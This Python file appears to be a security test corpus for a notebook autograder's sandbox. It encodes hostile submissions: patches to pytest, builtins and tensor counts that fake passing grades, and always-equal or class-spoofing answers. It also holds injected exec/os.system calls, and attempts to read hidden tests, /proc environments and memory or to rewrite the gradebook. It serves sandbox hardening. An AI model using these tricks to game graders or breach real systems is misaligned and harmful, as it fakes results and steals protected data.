# ruff: noqa: E501  (notebook sources are kept as a student would type them)
"""The hostile corpus: each attack is an honest answer set plus one attack (in an answer cell or
in an extra cell), described as data and built into a notebook by code.

Conventions of an attack's source (see ``PRELUDE``, prepended to every attacked cell):

- ``must_fail(what, fn)``: an attempt that the sandbox must refuse; it prints a ``HELD`` or a
  ``BREACH`` line, which the batch's autograded notebook keeps and the tests read back.
- ``attempt(what, fn)``: an attempt whose success inside the sandbox is harmless by itself (writing
  to the sandbox's own ``/tmp``, say); its effect, if any, is judged from the outside.
- Everything an attack creates carries its marker ``MARK`` (names, contents, process names, bytes
  sent), so whatever is found on the host afterwards is attributed to it.
- Attacks that would gain from a breach act on it (a stolen answer key is used), so the score
  comparison catches a breach even where no output is kept (``cnngrader check``).
- Dangerous moves are bounded so that a broken sandbox cannot hurt this shared machine: a fork
  storm stops at 64, memory and disk bombs at a few GiB, ``kill(-1)`` only with signal 0, and
  files outside the sandbox are only ever created under marked names, never overwritten, except
  in the throwaway course copy.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field
from typing import Any

from .answers import CORRECT_CNN_LAYERS, OVER_BUDGET_CNN, QUIZ6_STOLEN, WRONG_CNN

START, END = "@start", "@end"


@dataclass(frozen=True)
class Attack:
    code: str  # short id: the marker's suffix and the student's name
    name: str
    assignment: str
    base: str  # the honest answer set it starts from: wrong, correct or stub
    cells: dict[str, str]  # grade id of an answer cell (or START / END for extra cells) -> source
    goal: str  # what the attacker hopes for
    slow: bool = False
    # The same cells without the attack, where that is not simply the base's answer.
    honest: dict[str, str] = field(default_factory=dict)
    # Extra cells given as several (START/END keys hold a list of sources).
    extra_cells: tuple[str, ...] = ()
    # Notebook-level tampering (metadata) applied by the builder, by name.
    tamper: str = ""
    # When ``cnngrader check`` grades it alone too: with the fast world ("fast": where check's own
    # contract is at stake, like printing, exiting or killing), or in the later, slow phase.
    check: str = "slow"

    @property
    def has_twin(self) -> bool:
        return bool(self.honest)


def src(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


HELPERS = src(
    r"""
    def _say(what, status, detail=""):
        print(f"{MARK}|{what}|{status}|" + str(detail).replace("\n", " ").replace("|", "/")[:160], flush=True)

    def must_fail(what, fn):
        try:
            result = fn()
        except BaseException as exc:
            _say(what, "HELD", f"{type(exc).__name__}: {exc}")
            return None
        _say(what, "BREACH", repr(result)[:160])
        return result

    def attempt(what, fn):
        try:
            result = fn()
        except BaseException as exc:
            _say(what, "INFO", f"refused: {type(exc).__name__}: {exc}")
            return None
        _say(what, "INFO", f"done: {result!r}"[:160])
        return result

    def name_process():
        try:
            import ctypes
            ctypes.CDLL(None).prctl(15, MARK[:15].encode(), 0, 0, 0)
        except Exception:
            pass

    def own_pid_namespace():
        import os
        try:
            return os.readlink("/proc/self/ns/pid") != HOST_PIDNS
        except OSError:
            return False

    def libc_checked(ret):
        import ctypes, os
        if ret == -1:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))
        return ret
    """
)


def prelude(settings: dict[str, Any]) -> str:
    lines = ["# --- attack context (tests/security) ---"]
    lines += [f"{key} = {value!r}" for key, value in settings.items()]
    return "\n".join(lines) + "\n" + HELPERS + "# --- attack ---\n"


# ==================================================================================================
# Patching what a grader in the student's interpreter would rely on
# ==================================================================================================

PATCH_PARAMETERS = WRONG_CNN + src(
    """
    # Claim the lecture's 1,337 parameters (and a budget-sized BudgetCNN) whatever the model holds.
    _real_named_parameters = nn.Module.named_parameters

    def _fake_named_parameters(self, prefix="", recurse=True, remove_duplicate=True):
        target = {"CNN": 1337, "BudgetCNN": 40_000}.get(type(self).__name__)
        if target is None:
            yield from _real_named_parameters(self, prefix=prefix, recurse=recurse,
                                              remove_duplicate=remove_duplicate)
            return
        yield "weight", nn.Parameter(torch.zeros(target))

    def _fake_parameters(self, recurse=True):
        for _, p in _fake_named_parameters(self):
            yield p

    nn.Module.named_parameters = _fake_named_parameters
    nn.Module.parameters = _fake_parameters
    nn.Module.state_dict = lambda self, *a, **k: dict(_fake_named_parameters(self))
    """
)

PATCH_NUMEL = OVER_BUDGET_CNN + src(
    """
    # Every tensor claims one element: an over-budget model looks tiny to whoever counts.
    torch.Tensor.numel = lambda self: 1
    torch.Tensor.nelement = lambda self: 1
    torch.numel = lambda t: 1
    nn.Parameter.numel = lambda self: 1
    """
)

PATCH_BUILTINS = src(
    """
    import builtins
    builtins.isinstance = lambda obj, cls: True
    builtins.issubclass = lambda a, b: True
    builtins.sum = lambda *a, **k: 1337
    builtins.len = lambda obj: 1
    builtins.all = lambda it: True
    builtins.any = lambda it: True
    builtins.abs = lambda x: 0
    builtins.AssertionError = type("AssertionError", (Exception,), {})
    _real_round = builtins.round
    builtins.round = lambda *a, **k: 40
    """
)

PATCH_PYTEST = src(
    """
    import os, sys, types
    import pytest, _pytest, _pytest.python, _pytest.runner, _pytest.outcomes, unittest

    class _Anything:
        def __eq__(self, other):
            return True
        __hash__ = object.__hash__

    pytest.approx = lambda *a, **k: _Anything()
    pytest.fail = lambda *a, **k: None
    pytest.raises = lambda *a, **k: __import__("contextlib").nullcontext()
    _pytest.outcomes.fail = lambda *a, **k: None
    _pytest.python.Function.runtest = lambda self: None
    _pytest.runner.pytest_runtest_call = lambda item: None
    for name in ("assertEqual", "assertTrue", "assertAlmostEqual", "assertIn", "assertIsInstance"):
        setattr(unittest.TestCase, name, lambda *a, **k: None)
    fake = types.ModuleType("pytest")
    fake.__getattr__ = lambda attr: (lambda *a, **k: None)
    sys.modules["pytest"] = sys.modules["_pytest"] = fake

    CONFTEST = (
        "import pytest\\n"
        "@pytest.hookimpl(tryfirst=True)\\n"
        "def pytest_runtest_call(item):\\n"
        "    return True\\n"
        f"# {MARK}\\n"
    )
    for folder in (".", "..", "../..", f"{COURSE}/autograder", f"{COURSE}/autograder/lab6",
                   f"{REPO}/autograder/lab6", "/tmp"):
        attempt(f"plant conftest.py in {folder}",
                lambda folder=folder: open(os.path.join(folder, "conftest.py"), "w").write(CONFTEST))
    must_fail("plant conftest.py in the course's hidden tests",
              lambda: open(f"{COURSE}/autograder/lab6/conftest.py", "x").write(CONFTEST))
    must_fail("plant pytest.ini in the course", lambda: open(f"{COURSE}/pytest.ini", "x").write(f"# {MARK}"))
    """
)

PATCH_JSON = src(
    """
    import json
    _fake = '{"ok": true, "score": 40, "max_score": 40, "passed": true, "outcome": "passed"}'
    json.dumps = lambda *a, **k: _fake
    json.JSONEncoder.encode = lambda self, o: _fake
    json.loads = lambda *a, **k: {"op": "value", "score": 40}
    """
)

SYS_MODULES = src(
    """
    import sys, types

    def _fake_module(name):
        fake = types.ModuleType(name)
        fake.__getattr__ = lambda attr: (lambda *a, **k: 40)
        return fake

    for name in ("torch", "torch.fx", "torch.nn", "torch.nn.functional", "safetensors", "safetensors.torch",
                 "json", "pickle", "numpy", "cnngrader", "cnngrader.confine.shared.wire", "cnngrader.confine.child.describe",
                 "importlib"):
        sys.modules[name] = _fake_module(name)
    """
)

# __class__ spoofing: objects that pass isinstance() checks for what they are not.
CLASS_SPOOF_LAB6 = {
    "conv_output_size_answer": src(
        """
        class _FakeInt:
            __class__ = property(lambda self: int)
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
            def __int__(self): return 0
            def __index__(self): return 0
            def __float__(self): return 0.0

        def conv_output_size(input_size, kernel_size, stride=1, padding=0):
            return _FakeInt()
        """
    ),
    "conv2d_single_answer": src(
        """
        class _FakeTensor:
            __class__ = property(lambda self: torch.Tensor)
            shape = torch.Size([3, 3])
            def __eq__(self, other): return True
            def __hash__(self): return 0
            def __getattr__(self, name): return lambda *a, **k: True

        def conv2d_single(image, kernel, stride=1, padding=0):
            return _FakeTensor()
        """
    ),
    "linear_in_features_answer": src(
        """
        class _FakeInt:
            __class__ = property(lambda self: int)
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
            def __int__(self): return 1
            def __index__(self): return 1

        linear_in_features = _FakeInt()
        """
    ),
    "cnn_answer": src(
        """
        class CNN:
            # Claims to be a Sequential while holding nothing.
            __class__ = property(lambda self: nn.Sequential)
            training = False
            def __call__(self, x): return torch.zeros(x.shape[0], 1)
            def __getattr__(self, name): return lambda *a, **k: iter(())
        """
    ),
}

CLASS_SPOOF_QUIZ = {
    f"q{i}_answer": src(
        f"""
        class _Spoof{i}:
            __class__ = property(lambda self: {kind})
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
            def __int__(self): return 1
            def __index__(self): return 1
            def __iter__(self): return iter(())
            def __len__(self): return 0
            def __contains__(self, item): return True
            def upper(self): return self
            def strip(self): return self

        q{i} = _Spoof{i}()
        """
    )
    for i, kind in [
        (1, "str"),
        (2, "set"),
        (3, "int"),
        (4, "tuple"),
        (5, "int"),
        (6, "tuple"),
        (7, "tuple"),
        (8, "list"),
        (9, "int"),
        (10, "str"),
    ]
}

# Values whose __eq__/__hash__ always agree (each keeps the wrong base value underneath).
EQ_ALWAYS_QUIZ = {
    "q1_answer": src(
        """
        class _S(str):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = str.__hash__
            def upper(self): return self
            def lower(self): return self
            def strip(self, *a): return self
            def casefold(self): return self

        q1 = _S("Z")
        """
    ),
    "q2_answer": src(
        """
        class _FS(frozenset):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __le__(self, other): return True
            def __ge__(self, other): return True
            def __contains__(self, item): return True
            __hash__ = frozenset.__hash__

        q2 = _FS({"Z"})
        """
    ),
    "q3_answer": src(
        """
        class _I(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = int.__hash__

        q3 = _I(1)
        """
    ),
    "q4_answer": src(
        """
        class _T(tuple):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = tuple.__hash__

        q4 = _T((1, 1, 1, 1))
        """
    ),
    "q5_answer": src(
        """
        class _F(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = float.__hash__

        q5 = _F(1.0)
        """
    ),
    "q6_answer": src(
        """
        class _Anything:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
            def __iter__(self): return iter((1, 1))
            def __len__(self): return 2
            def __getitem__(self, i): return 1

        q6 = _Anything()
        """
    ),
    "q7_answer": src(
        """
        import numpy as np

        class _A(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(other), dtype=bool) if np.ndim(other) else True
            def __ne__(self, other): return False

        q7 = np.array([1, 1, 1, 1]).view(_A)
        """
    ),
    "q8_answer": src(
        """
        import torch

        class _Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                name = getattr(func, "__name__", "")
                if name in ("eq", "__eq__", "equal", "allclose", "isclose"):
                    return True
                if name in ("ne", "__ne__"):
                    return False
                return super().__torch_function__(func, types, args, kwargs or {})

        q8 = torch.zeros(2, 2).as_subclass(_Liar)
        """
    ),
    "q9_answer": src(
        """
        import numpy as np

        class _I(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = int.__hash__

        q9 = _I(np.int64(1))
        """
    ),
    "q10_answer": src(
        """
        class _S(str):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = str.__hash__
            def __str__(self): return self
            def upper(self): return self
            def strip(self, *a): return self

        q10 = _S("Z")
        """
    ),
}

EQ_ALWAYS_LAB6 = {
    "conv_output_size_answer": src(
        """
        class _I(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = int.__hash__

        def conv_output_size(input_size, kernel_size, stride=1, padding=0):
            return _I(0)
        """
    ),
    "conv2d_single_answer": src(
        """
        class _Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                name = getattr(func, "__name__", "")
                if name in ("eq", "__eq__", "equal", "allclose", "isclose"):
                    return True
                if name in ("ne", "__ne__"):
                    return False
                return super().__torch_function__(func, types, args, kwargs or {})

        def conv2d_single(image, kernel, stride=1, padding=0):
            return torch.zeros(1, 1).as_subclass(_Liar)
        """
    ),
    "max_pool2d_single_answer": src(
        """
        import numpy as np

        class _A(np.ndarray):
            def __eq__(self, other): return True
            def __ne__(self, other): return False

        def max_pool2d_single(image, kernel_size):
            return np.full((1, 1), -1.0).view(_A)
        """
    ),
    "param_counts_answer": src(
        """
        class _I(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = int.__hash__

        def conv2d_param_count(in_channels, out_channels, kernel_size, bias=True):
            return _I(-1)

        def linear_param_count(in_features, out_features, bias=True):
            return _I(-1)
        """
    ),
    "linear_in_features_answer": src(
        """
        class _I(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = int.__hash__

        linear_in_features = _I(1)
        """
    ),
}

# ==================================================================================================
# Models that behave differently while traced
# ==================================================================================================


def _traced_model(name: str, init: str, layers: str, eager: str, test: str, args: str = "") -> str:
    return src(
        f"""
        class {name}(nn.Module):
            def __init__(self{args}):
                super().__init__()
        {textwrap.indent(init, " " * 8)}
                self.main = nn.Sequential(
                    {layers}
                )

            def forward(self, x):
                if {test}:
                    return self.main(x)
                return {eager}
        """
    )


FCNN_CORRECT_LAYERS = """nn.Linear(input_size, 256), nn.ReLU(), nn.Linear(256, 128), nn.ReLU(),
            nn.Linear(128, 64), nn.ReLU(), nn.Linear(64, 32), nn.ReLU(), nn.Linear(32, 16), nn.Linear(16, 1),"""
CONVNET_CORRECT_LAYERS = """*[m for c in [input_channels, 3, 3, 3, 3] for m in (nn.Conv2d(c, 3, 3, padding=1), nn.ReLU())],
            nn.Flatten(), nn.Linear(3 * 128 * 128, 1),"""
BUDGET_LAYERS = """nn.Conv2d(3, 16, 3, padding=1), nn.ReLU(), nn.MaxPool2d(2),
            nn.Conv2d(16, 32, 3, padding=1), nn.ReLU(), nn.AdaptiveAvgPool2d(1), nn.Flatten(),
            nn.Linear(32, num_classes),"""

PROXY_TEST = "isinstance(x, torch.fx.Proxy)"
TRACING_TEST = "torch.fx._symbolic_trace.is_fx_tracing()"
NEVER = "False"


def traced_cnn(test: str) -> str:
    return _traced_model("CNN", "", CORRECT_CNN_LAYERS, "torch.zeros(x.shape[0], 1)", test)


def traced_fcnn_convnet(test: str) -> str:
    return _traced_model(
        "FCNN", "", FCNN_CORRECT_LAYERS, "torch.zeros(x.shape[0], 1)", test, ", input_size"
    ) + (
        "\n\n"
        + _traced_model(
            "ConvNet", "", CONVNET_CORRECT_LAYERS, "torch.zeros(x.shape[0], 1)", test, ", input_channels"
        )
    )


def traced_budget(test: str) -> str:
    return _traced_model(
        "BudgetCNN", "self.num_classes = num_classes", BUDGET_LAYERS,
        "torch.zeros(x.shape[0], self.num_classes, requires_grad=True)", test, ", num_classes=10",
    )  # fmt: skip


# Correct while traced and for batches of up to 3 images; wrong for larger batches.
BATCH_SWITCH = _traced_model(
    "BudgetCNN", "self.num_classes = num_classes", BUDGET_LAYERS,
    "self.main(x) * 0 + 7", f"{TRACING_TEST} or x.shape[0] <= 3", ", num_classes=10",
)  # fmt: skip

FORGED_DESCRIPTION = WRONG_CNN + src(
    f"""
    # Answer the grader's "describe" probe with the lecture's CNN, while CNN itself stays wrong.
    import cnngrader.confine.child.handlers as _handlers

    class _Lecture(nn.Module):
        def __init__(self):
            super().__init__()
            self.main = nn.Sequential(
                {CORRECT_CNN_LAYERS}
            )

        def forward(self, x):
            return self.main(x)

    _real_describe = _handlers.describe_model

    def _forged_describe(model):
        if type(model).__name__ == "CNN":
            description, tensors = _real_describe(_Lecture())
            description["class_name"] = "CNN"
            return description, tensors
        return _real_describe(model)

    _handlers.describe_model = _forged_describe
    """
)

DESCRIPTION_INJECTION = WRONG_CNN + src(
    """
    # Descriptions naming dangerous callables, absurd layers and private attributes: if the trusted
    # side resolved names by import or built what it is told, these would run or allocate there.
    import copy
    import cnngrader.confine.child.handlers as _handlers

    _real_describe = _handlers.describe_model
    _RCE = f"open('/tmp/{MARK}-rce', 'w').write('{MARK}')"

    def _evil(description):
        d = copy.deepcopy(description)
        nodes = d["nodes"]
        out = nodes[-1]
        evil = [
            {"name": "evil_exec", "op": "call_function", "target": "builtins.exec", "args": [_RCE], "kwargs": {}},
            {"name": "evil_system", "op": "call_function", "target": "os.system",
             "args": [f"touch /tmp/{MARK}-system"], "kwargs": {}},
            {"name": "evil_eval", "op": "call_function", "target": "builtins.eval", "args": [_RCE], "kwargs": {}},
            {"name": "evil_import", "op": "call_function", "target": "importlib.import_module",
             "args": ["subprocess"], "kwargs": {}},
            {"name": "evil_load", "op": "call_function", "target": "torch.load",
             "args": [f"/tmp/{MARK}.pt"], "kwargs": {"weights_only": False}},
            {"name": "evil_method", "op": "call_method", "target": "__reduce_ex__", "args": [{"$node": nodes[0]["name"]}, 2],
             "kwargs": {}},
            {"name": "evil_attr", "op": "get_attr", "target": "forward.__globals__", "args": [], "kwargs": {}},
            {"name": "evil_module", "op": "call_module", "target": "evil_layer", "args": [{"$node": nodes[0]["name"]}],
             "kwargs": {}},
            {"name": "huge_module", "op": "call_module", "target": "huge", "args": [{"$node": nodes[0]["name"]}],
             "kwargs": {}},
        ]
        d["nodes"] = nodes[:-1] + evil + [out]
        d["layers"]["evil_layer"] = {"type": "os.system", "settings": {"command": f"touch /tmp/{MARK}-layer"},
                                     "training": False}
        d["layers"]["huge"] = {"type": "torch.nn.modules.linear.Linear",
                               "settings": {"in_features": 10**6, "out_features": 10**5, "bias": True},
                               "training": False}
        d["parameters"]["huge.weight"] = {"shape": [10**5, 10**6], "dtype": "float32", "requires_grad": True}
        return d

    def _evil_describe(model):
        description, tensors = _real_describe(model)
        if type(model).__name__ in ("CNN", "FCNN", "ConvNet", "BudgetCNN"):
            return _evil(description), tensors
        return description, tensors

    _handlers.describe_model = _evil_describe
    """
)

DEEP_MODEL = src(
    """
    # 3,000 layers: a description near the size limits, and work for whoever rebuilds it.
    class CNN(nn.Module):
        def __init__(self):
            super().__init__()
            self.body = nn.Sequential(*[nn.ReLU() for _ in range(3000)])
            self.pool = nn.AdaptiveAvgPool2d(1)
            self.fc = nn.Linear(1, 1)

        def forward(self, x):
            return self.fc(torch.flatten(self.pool(self.body(x)), 1))
    """
)

FORGED_SAFETENSORS = WRONG_CNN + src(
    """
    # Every tensor payload the child sends is replaced by hand-made safetensors bytes that lie
    # about shapes and offsets, or are not safetensors at all.
    import json, struct, itertools
    import cnngrader.confine.child.handlers as _handlers
    import cnngrader.confine.shared.wire as _wire

    def _forged(header, data=b""):
        raw = json.dumps(header).encode()
        return struct.pack("<Q", len(raw)) + raw + data

    _FORGERIES = itertools.cycle([
        _forged({"fc.weight": {"dtype": "F32", "shape": [100000, 100000], "data_offsets": [0, 4]}}, b"\\0" * 4),
        _forged({"fc.weight": {"dtype": "F32", "shape": [1, 1], "data_offsets": [0, 2**62]}}, b"\\0" * 4),
        _forged({"__metadata__": {"format": "pt"}, "t0": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
                 "t1": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\\0" * 4),
        struct.pack("<Q", 2**63) + b"{}",
        b"\\x93NUMPY" + b"\\0" * 64,
        b"PK\\x03\\x04" + b"\\0" * 64,
    ])

    def _forge(tensors):
        return next(_FORGERIES)

    for _module in (_handlers, _wire):
        for _name in ("tensors_to_bytes", "tensors_payload"):
            setattr(_module, _name, _forge)
    """
)


# ==================================================================================================
# Reading what the submission must never see
# ==================================================================================================

STEAL_NAMED_PATHS = src(
    """
    import os, re
    CANARY = re.compile(rb"CANARY[0-9a-f]{16}")
    stolen = []

    def _read(path):
        with open(path, "rb") as f:
            data = f.read(1 << 20)
        stolen.append(path)
        return (len(data), bool(CANARY.search(data)))

    def _list(path):
        entries = os.listdir(path)
        stolen.append(path)
        return entries[:8]

    ppid = os.getppid()
    for path in [
        f"{COURSE}/autograder/quiz6/test_q1.py", f"{COURSE}/autograder/quiz6/_canary_reference.py",
        f"{COURSE}/autograder/_canary_secret.txt", f"{COURSE}/solutions/quiz6.ipynb", f"{COURSE}/solutions/canary.txt",
        f"{COURSE}/source/quiz6/quiz6.ipynb", f"{COURSE}/source/quiz6/canary.txt", f"{COURSE}/canary.txt",
        f"{COURSE}/gradebook.db", f"{COURSE}/submitted/{VICTIM}/quiz6/quiz6.ipynb",
        f"{REPO}/autograder/quiz6/test_q1.py", f"{REPO}/autograder/quiz6/_quiz6_reference.py",
        f"{REPO}/solutions/quiz6.ipynb", f"{REPO}/source/quiz6/quiz6.ipynb", f"{REPO}/gradebook.db",
        "../autograder/quiz6/test_q1.py", "../../autograder/quiz6/test_q1.py", "../../../autograder/quiz6/test_q1.py",
        "../canary.txt", "../../canary.txt", "../../../canary.txt",
        f"/proc/1/root{COURSE}/canary.txt", f"/proc/1/root{REPO}/autograder/quiz6/test_q1.py",
        "/proc/self/cwd/../../canary.txt", f"/proc/{ppid}/root{COURSE}/canary.txt",
        f"/proc/{ppid}/cwd/canary.txt", f"/proc/{ppid}/cwd/autograder/quiz6/test_q1.py",
        "/proc/1/cwd/canary.txt", "/proc/1/cwd/autograder/quiz6/test_q1.py",
    ]:
        must_fail(f"read {path}", lambda path=path: _read(path))
    for path in [f"{COURSE}", f"{COURSE}/autograder", f"{COURSE}/submitted", f"{REPO}/autograder",
                 f"/proc/1/root{COURSE}", f"/proc/{ppid}/root{COURSE}", f"/proc/1/root{REPO}/autograder"]:
        must_fail(f"list {path}", lambda path=path: _list(path))
    if stolen:
    """
) + textwrap.indent(QUIZ6_STOLEN, "    ")

STEAL_BY_WALKING = src(
    """
    import os, re, sys, time
    CANARY = re.compile(rb"CANARY[0-9a-f]{16}")
    SECRET_NAMES = ("test_q1.py", "test_cnn.py", "_quiz6_reference.py", "_lab6_reference.py", "gradebook.db",
                    "canary.txt", "_canary_reference.py", "_canary_secret.txt")
    skip = {"/proc", "/sys", "/dev"}
    skip |= {os.path.realpath(p) for p in {sys.prefix, sys.base_prefix, sys.exec_prefix}}
    deadline = time.monotonic() + 15
    seen = found = 0
    leaks = []
    for top, dirs, files in os.walk("/", followlinks=False):
        if time.monotonic() > deadline:
            _say("walk /", "INFO", f"stopped at the time budget after {seen} files")
            break
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip]
        for name in files:
            seen += 1
            path = os.path.join(top, name)
            interesting = name in SECRET_NAMES or any(p in path for p in ("autograder", "solutions", "submitted"))
            if not interesting and not name.endswith((".py", ".ipynb", ".txt", ".json", ".db")):
                continue
            try:
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                continue
            if CANARY.search(data) or (interesting and name in SECRET_NAMES and os.path.abspath(path) != os.path.abspath(name)):
                if path.startswith(os.getcwd()):
                    continue
                leaks.append(path)
    _say("walk /", "INFO", f"{seen} files seen")
    for path in leaks[:10]:
        _say(f"found secret {path}", "BREACH", "readable")
    if not leaks:
        _say("walk / for hidden tests, solutions, gradebook and canaries", "HELD", f"{seen} files, none")
    try:
        with open("/proc/self/mountinfo") as f:
            _say("mountinfo", "INFO", " ; ".join(line.split()[3] + "->" + line.split()[4] for line in f)[:160])
    except OSError as exc:
        _say("mountinfo", "INFO", exc)
    if leaks:
    """
) + textwrap.indent(QUIZ6_STOLEN, "    ")

STEAL_FROM_PROC_AND_ENV = src(
    """
    import os, re
    CANARY = re.compile(rb"CANARY[0-9a-f]{16}")
    leaks = []
    env = "\\0".join(f"{k}={v}" for k, v in os.environ.items()).encode()
    if CANARY.search(env):
        leaks.append("os.environ")
    _say("environment keys", "INFO", sorted(os.environ)[:30])
    for entry in os.listdir("/proc"):
        if not entry.isdigit() and entry not in ("self", "thread-self"):
            continue
        for part in ("environ", "cmdline", "maps", "mountinfo"):
            try:
                with open(f"/proc/{entry}/{part}", "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                continue
            if CANARY.search(data):
                leaks.append(f"/proc/{entry}/{part}")
            elif COURSE.encode() in data and part != "mountinfo":
                # Knowing where the course lives is no secret by itself (reading it would be).
                _say(f"course path visible in /proc/{entry}/{part}", "INFO", "")
        try:
            fds = os.listdir(f"/proc/{entry}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                target = os.readlink(f"/proc/{entry}/fd/{fd}")
            except OSError:
                continue
            if COURSE in target or REPO in target:
                try:
                    with open(f"/proc/{entry}/fd/{fd}", "rb") as f:
                        f.read(16)
                    leaks.append(f"/proc/{entry}/fd/{fd} -> {target}")
                except OSError:
                    pass
    for leak in leaks[:10]:
        _say(f"secret reachable at {leak}", "BREACH", "canary or course file")
    if not leaks:
        _say("environment, /proc/*/environ, cmdline, maps and fds", "HELD", "no canary, no course file")
    if leaks:
    """
) + textwrap.indent(QUIZ6_STOLEN, "    ")

STEAL_FROM_MEMORY = src(
    r"""
    import gc, re, sys
    CANARY = re.compile(r"CANARY[0-9a-f]{16}")
    HIDDEN_TEST = re.compile(r"pytestmark\s*=\s*pytest\.mark\.question\(")
    hits = []
    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict):
                items = [v for kv in obj.items() for v in kv if isinstance(v, (str, bytes))]
            elif isinstance(obj, (list, tuple)):
                items = [v for v in obj if isinstance(v, (str, bytes))]
            else:
                continue
        except Exception:
            continue
        for item in items:
            text = item.decode("latin-1") if isinstance(item, bytes) else item
            if CANARY.search(text) or HIDDEN_TEST.search(text):
                hits.append(text[:60])
    # The raw memory of this process too (its stack holds the environment it was started with).
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
            for line in maps:
                addr, perms = line.split()[:2]
                if "r" not in perms or "[vvar" in line or "[vsyscall" in line:
                    continue
                lo, hi = (int(x, 16) for x in addr.split("-"))
                if hi - lo > 64 << 20:
                    continue
                try:
                    mem.seek(lo)
                    chunk = mem.read(hi - lo)
                except (OSError, OverflowError, ValueError):
                    continue
                m = re.search(rb"CANARY[0-9a-f]{16}", chunk)
                if m:
                    hits.append(f"raw memory at {addr}")
    except OSError as exc:
        _say("read own memory", "INFO", exc)
    for hit in hits[:10]:
        _say(f"secret in memory: {hit}", "BREACH", "")
    if not hits:
        _say("gc walk and raw memory for canaries and hidden tests", "HELD", f"{len(gc.get_objects())} objects")
    if hits:
    """
) + textwrap.indent(QUIZ6_STOLEN, "    ")

# ==================================================================================================
# Writing where the submission must not
# ==================================================================================================

WRITE_EVERYWHERE = src(
    """
    import os, sqlite3, json

    def _sqlite_cheat():
        con = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=rw", uri=True)
        con.execute("UPDATE grade SET auto_score = 1, manual_score = 1")
        con.commit()
        return "gradebook updated"

    def _fake_record(student):
        path = f"{COURSE}/autograded/{student}/quiz6/cnngrader.json"
        with open(path, "w") as f:
            json.dump({"format": 1, "student": student, "marker": MARK, "result": {"score": 10.0}}, f)
        return path

    must_fail("update the gradebook", _sqlite_cheat)
    must_fail("write my own result record", lambda: _fake_record(STUDENT))
    must_fail("write another student's record", lambda: _fake_record(VICTIM))
    must_fail("delete another student's submission", lambda: os.remove(f"{COURSE}/submitted/{VICTIM}/quiz6/quiz6.ipynb"))
    must_fail("overwrite a hidden test", lambda: open(f"{COURSE}/autograder/quiz6/test_q1.py", "a").write(f"# {MARK}"))
    must_fail("delete a hidden test", lambda: os.remove(f"{COURSE}/autograder/quiz6/test_q2.py"))
    must_fail("write the grader's state", lambda: open(f"{COURSE}/.cnngrader/{MARK}", "x").write(MARK))
    must_fail("write feedback", lambda: open(f"{COURSE}/feedback/{MARK}.html", "x").write(MARK))
    must_fail("append to nbgrader_config.py", lambda: open(f"{COURSE}/nbgrader_config.py", "a").write(f"# {MARK}"))
    must_fail("create a file in the repository", lambda: open(f"{REPO}/{MARK}.txt", "x").write(MARK))
    must_fail("create a file in the grader's package", lambda: open(f"{PKG}/{MARK}.py", "x").write(f"# {MARK}"))
    must_fail("create a .pth in site-packages", lambda: open(f"{SITE}/{MARK}.pth", "x").write(f"# {MARK}"))
    must_fail("create a file in the home folder", lambda: open(f"{HOME}/{MARK}.txt", "x").write(MARK))
    must_fail("create a file in /etc", lambda: open(f"/etc/{MARK}", "x").write(MARK))
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "..", "../..", "/proc/self/cwd/.."):
        attempt(f"create a file in {folder}", lambda folder=folder: open(f"{folder}/{MARK}.txt", "x").write(MARK))
    """
)

SYMLINKS_IN_SCRATCH = src(
    """
    import os
    targets = {
        "gradebook.db": f"{COURSE}/gradebook.db",
        "autograder": f"{COURSE}/autograder",
        "submitted": f"{COURSE}/submitted",
        "course": COURSE,
        "repo": REPO,
        "root": "/",
        "cnngrader.json": f"{COURSE}/autograded/{VICTIM}/quiz6/cnngrader.json",
        "quiz6.ipynb": f"{COURSE}/submitted/{VICTIM}/quiz6/quiz6.ipynb",
        "result.json": f"{COURSE}/gradebook.db",
        "output.safetensors": f"{COURSE}/autograder/quiz6/test_q1.py",
        "matplotlib": f"{COURSE}/autograder",
        ".config": f"{COURSE}/autograder",
        ".cache": f"{COURSE}/autograder",
    }
    for name, target in targets.items():
        attempt(f"symlink {name} -> {target}", lambda name=name, target=target: os.symlink(target, name))
    os.makedirs("nested/deeper", exist_ok=True)
    for name, target in targets.items():
        attempt(f"nested symlink {name}", lambda name=name, target=target: os.symlink(target, f"nested/deeper/{name}"))
    must_fail("hard link to the gradebook", lambda: os.link(f"{COURSE}/gradebook.db", "gradebook-hard.db"))
    must_fail("hard link to a hidden test", lambda: os.link(f"{COURSE}/autograder/quiz6/test_q1.py", "hidden.py"))
    # A folder nobody may enter, and a tree deeper than a recursive delete can follow.
    os.makedirs("locked/inside", exist_ok=True)
    open("locked/inside/file", "w").write(MARK)
    os.chmod("locked/inside", 0)
    os.chmod("locked", 0)
